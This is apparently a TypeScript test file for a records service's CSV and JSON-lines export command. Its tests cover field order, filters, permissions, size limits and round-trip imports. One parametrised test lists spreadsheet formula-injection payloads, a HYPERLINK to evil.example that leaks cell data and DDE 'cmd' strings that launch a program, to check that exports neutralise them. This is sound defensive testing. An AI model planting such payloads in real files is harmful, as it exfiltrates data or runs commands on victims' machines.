import { faultSize } from "@svc/testing/fault-size";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect } from "vitest";
import { type RecordsTown, test } from "../../../../testing/records-test.ts";
import { asAdmin } from "../../../../testing/worker-test.ts";

interface Exported {
  count: number;
  content: string;
}

test("writes the fields in their order, then the body; links and people by id", async ({ town }) => {
  const target = await town.addCollection("name:text");
  const to = await town.addRecord(target.slug, "name=Target");
  const { slug } = await town.addCollection(
    "n:number",
    "name:text",
    `to:link:${target.slug}`,
    "owner:person",
  );
  const id = await town.addRecord(slug, "n=-1.5", 'name=Acme, "the" Co', `to=${to}`, "owner=Edo");
  const person = (await town.as("viewer").run(`records get ${id}`)).fields.owner.id;
  const csv = await town.as("viewer").run<Exported>(`records export ${slug}`);
  expect(csv).toMatchObject({ count: 1 });
  expect(csv.content).toBe(`n,name,to,owner,body\n-1.5,"Acme, ""the"" Co",${to},${person},\n`);
  const jsonl = await town.as("viewer").run<Exported>(`records export ${slug} --as jsonl`);
  expect(JSON.parse(jsonl.content)).toEqual({ n: -1.5, name: 'Acme, "the" Co', to, owner: person });
});

test("takes filters and an order", async ({ town }) => {
  const { slug } = await town.addCollection("name:text", "n:number");
  for (const n of [1, 2, 3]) await town.addRecord(slug, `name=r${n}`, `n=${n}`);
  const line = `records export ${slug} --filter n>1 --sort=-n`;
  const { content } = await town.as("viewer").run<Exported>(line);
  expect(content).toBe("name,n,body\nr3,3,\nr2,2,\n");
});

test("prints the exact text into a pipe", async ({ town }) => {
  const { slug } = await town.addCollection("name:text");
  await town.addRecord(slug, "name==SUM(A1)");
  const words = ["records", "export", slug, "--workspace", "sales"];
  const { body } = await town.backend.type(town.tokens.viewer, words, { request: { want: "text" } });
  expect(body.text).toBe("name,body\n'=SUM(A1),");
});

test.for([
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=1+1",
  "''-1",
  "＝1+1",
])("marks what a spreadsheet would run: %s", async (text, { town }) => {
  const { slug } = await town.addCollection("name:text", "n:number", "status:choice:-,+x");
  await town.addRecord(slug, `name=${text}`, "n=-1.5", "status=-");
  const { content } = await town.as("viewer").run<Exported>(`records export ${slug}`);
  expect(parse(content)[1]).toEqual([`'${text}`, "-1.5", "'-", ""]);
  const jsonl = await town.as("viewer").run<Exported>(`records export ${slug} --as jsonl`);
  expect(JSON.parse(jsonl.content).name).toBe(text);
});

test("refuses a CSV that would differ from the records, which JSON lines can represent", async ({ town }) => {
  const { slug } = await town.addCollection("name:text");
  const family = "👩\u200d👧 می\u200cخواهم";
  await town.addRecord(slug, `name=${family}`);
  const refused = await town.as("viewer").type(`records export ${slug}`);
  expect(refused.body).toMatchObject({ code: "conflict", hint: expect.stringContaining("--as jsonl") });
  const words = ["records", "export", slug, "--as", "jsonl", "--workspace", "sales"];
  const { body } = await town.backend.type(town.tokens.viewer, words, { request: { want: "text" } });
  expect(JSON.parse(body.text ?? "")).toEqual({ name: family });
});

test("exports more than one batch completely and in order", async ({ town }) => {
  const { slug } = await town.addCollection("name:text", "n:number");
  const csv = `name,n,body\n${Array.from({ length: 2_500 }, (_, index) => `r${index},${index % 7},\n`).join("")}`;
  await town.as("editor").send(`records import ${slug} ./x.csv`, csv);
  expect((await town.as("viewer").run<Exported>(`records export ${slug}`)).content).toBe(csv);
  const sorted = await town.as("viewer").run<Exported>(`records export ${slug} --sort n`);
  expect(new Set(sorted.content.split("\n")).size).toBe(2_502);
});

test("viewers can; nobody else learns that it exists", async ({ town }) => {
  const { id } = await town.addCollection("name:text");
  expect((await town.as("viewer").type(`records export ${id}`)).status).toBe(200);
  for (const who of ["stranger", "foreigner"] as const) {
    expect((await town.as(who).type(`records export ${id}`)).status).toBe(404);
  }
});

const hostile = fc.constantFrom(
  '"',
  ",",
  "\n",
  "\r",
  ";",
  "=",
  "+",
  "-",
  "@",
  "＝",
  "'",
  "\\",
  "\t",
  " ",
  "\ufeff",
  "é",
  "😀",
  "\u200d",
  "{",
);
const text = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: hostile }),
  fc.string({ unit: "binary" }),
);
const row = fc.record(
  {
    name: text,
    n: fc
      .oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), fc.constant("-0"))
      .map(String),
    on: fc.boolean().map(String),
    day: fc
      .date({ min: new Date("0001-01-02"), max: new Date("9999-12-30"), noInvalidDate: true })
      .map((date) => date.toISOString().slice(0, 10)),
    status: fc.constantFrom("lead", "a b", '"q"', "-"),
    body: text,
  },
  { requiredKeys: [] },
);

test("an export imports to the same records, in both formats", async ({ town }) => {
  const fields = ["name:text", "n:number", "on:boolean", "day:date", 'status:choice:lead,a b,"q",-'];
  await fc.assert(
    fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 20 }), async (rows) => {
      const made = await town.addCollection(...fields);
      const content = rows.map((each) => JSON.stringify(each)).join("\n");
      const sent = await town.as("editor").send(`records import ${made.slug} ./x.jsonl`, content);
      // The property is about accepted rows only.
      fc.pre(sent.status === 200);
      await expectSame(town, made.slug, fields, "jsonl");
      const csv = await town.as("viewer").type(`records export ${made.slug} --as csv`);
      if (csv.status === 200) await expectSame(town, made.slug, fields, "csv");
      else expect(csv.body.code).toBe("conflict");
    }),
    { numRuns: faultSize(60, 12), maxSkipsPerRun: 50 },
  );
});

async function expectSame(town: RecordsTown, from: string, fields: string[], format: string): Promise<void> {
  const words = ["records", "export", from, "--as", format, "--workspace", "sales"];
  const printed = await town.backend.type(town.tokens.viewer, words, { request: { want: "text" } });
  if (format === "csv") expectNoFormula(printed.body.text ?? "");
  const copy = await town.addCollection(...fields);
  const sent = await town
    .as("editor")
    .send(`records import ${copy.slug} ./x.${format}`, printed.body.text ?? "");
  expect(sent.body.detail).toBeUndefined();
  expect(await stored(town, copy.slug)).toEqual(await stored(town, from));
}

/** The second column has numbers, which are no formulas. */
function expectNoFormula(csv: string): void {
  const rows: string[][] = parse(csv, { relax_column_count: true });
  for (const cell of rows.flatMap((cells) => cells.toSpliced(1, 1))) {
    expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  }
}

/** The stored records, by field name. */
async function stored(town: RecordsTown, slug: string): Promise<unknown[]> {
  const scope = { tenantId: town.tenant.id, actorId: town.people.owner };
  return town.backend.database.withTenant(scope, "read", async ({ db }) => {
    const rows = await db
      .selectFrom("app.record as record")
      .innerJoin("app.collection as collection", "collection.id", "record.collection_id")
      .select(["record.title", "record.fields", "record.body", "collection.fields as fieldsOfCollection"])
      .where("collection.slug", "=", slug)
      .orderBy("record.id")
      .execute();
    return rows.map(({ title, fields, body, fieldsOfCollection }) => ({
      title,
      body,
      fields: (fieldsOfCollection as unknown as { key: string }[]).map(
        ({ key }) => (fields as Record<string, unknown>)[key],
      ),
    }));
  });
}

/** As if a record had been imported so many times, which would take long. */
async function multiply(town: RecordsTown, slug: string, times: number): Promise<void> {
  await asAdmin(town, (admin) =>
    admin.query(
      `insert into app.record (tenant_id, collection_id, title, fields, body, created_by, updated_by)
       select record.tenant_id, collection_id, title, record.fields, body, record.created_by, record.updated_by
       from app.record as record join app.collection as collection
         on collection.tenant_id = record.tenant_id and collection.id = collection_id, generate_series(2, $3)
       where record.tenant_id = $1 and collection.slug = $2`,
      [town.tenant.id, slug, times],
    ),
  );
}

test("refuses an export that is too large for one answer before reading it", async ({ town }) => {
  const many = await town.addCollection("name:text");
  await town.addRecord(many.slug, "name=x");
  await multiply(town, many.slug, 50_001);
  const { status, body } = await town.as("viewer").type(`records export ${many.slug}`);
  expect([status, body.code]).toEqual([413, "too_large"]);
  expect(body.hint).toContain("--filter");

  const long = await town.addCollection("name:text");
  const line = JSON.stringify({ name: "x", body: "x".repeat(900_000) });
  await town.as("editor").send(`records import ${long.slug} ./x.jsonl`, line);
  expect((await town.as("viewer").type(`records export ${long.slug}`)).status).toBe(200);
  await multiply(town, long.slug, 40);
  expect((await town.as("viewer").type(`records export ${long.slug}`)).body.code).toBe("too_large");
});
